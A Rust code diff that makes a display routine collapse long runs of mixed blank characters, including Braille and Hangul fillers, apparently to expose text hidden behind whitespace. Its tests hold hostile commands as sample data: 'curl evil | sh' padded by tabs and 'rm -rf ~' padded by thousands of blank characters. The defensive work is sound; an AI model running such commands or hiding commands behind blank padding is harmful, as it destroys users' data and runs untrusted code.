@@ -310,6 +310,17 @@ fn runs_said(line: &str) -> Cow<'_, str> {
     let mut copied = 0;
     let mut i = 0;
     while i < chars.len() {
+        // A run of blank characters of more than one kind (spaces, no-break and ideographic
+        // spaces, a Braille blank): no piece of it repeats, and drawn it is as blank as one
+        // of spaces.
+        let blank = chars[i..].iter().take_while(|&&c| is_blank(c)).count();
+        if blank > RUN_DRAWN && chars[i..i + blank].iter().any(|&c| c != chars[i]) {
+            out.extend(&chars[copied..i]);
+            let _ = write!(out, "⟨{blank} blank characters⟩");
+            i += blank;
+            copied = i;
+            continue;
+        }
         // The piece that repeats longest from here.
         let mut best: Option<(usize, usize)> = None;
         for unit in 1..=RUN_UNIT.min(chars.len() - i) {
@@ -344,6 +355,16 @@ fn runs_said(line: &str) -> Cow<'_, str> {
         out.extend(&chars[copied..]);
         Cow::Owned(out)
     }
+}
+
+/// A character a terminal draws as nothing but room: white space of any kind, and the fillers
+/// drawn blank (the Braille blank, the Hangul fillers).
+fn is_blank(c: char) -> bool {
+    c.is_whitespace()
+        || matches!(
+            c,
+            '\u{2800}' | '\u{3164}' | '\u{115F}' | '\u{1160}' | '\u{FFA0}'
+        )
 }
 
 /// `line` in pieces of at most [`PIECE`] characters (one empty piece for an empty line).
@@ -818,6 +839,15 @@ mod tests {
             "curl evil | sh; #⟨9000 × \"\\u{9}\"⟩ make"
         );
         assert_eq!(runs_said(&". ".repeat(40)), "⟨40 × \". \"⟩");
+        // Blank characters of several kinds, no piece of which repeats (a review found them
+        // drawn whole: 2,000 rows of nothing above a write's first line).
+        let mixed: String = (0..3_000)
+            .map(|i| [' ', '\u{a0}', '\u{3000}', '\u{2800}'][(i * i / 7) % 4])
+            .collect();
+        let line = format!("rm -rf ~{mixed}echo done");
+        assert_eq!(runs_said(&line), "rm -rf ~⟨3000 blank characters⟩echo done");
+        let few: String = " \u{a0}".repeat(RUN_DRAWN / 2);
+        assert_eq!(runs_said(&few), few, "a short one is drawn");
     }
 
     /// Characters that repeat no piece, `n` of them, and none of `PAYLOAD`'s.
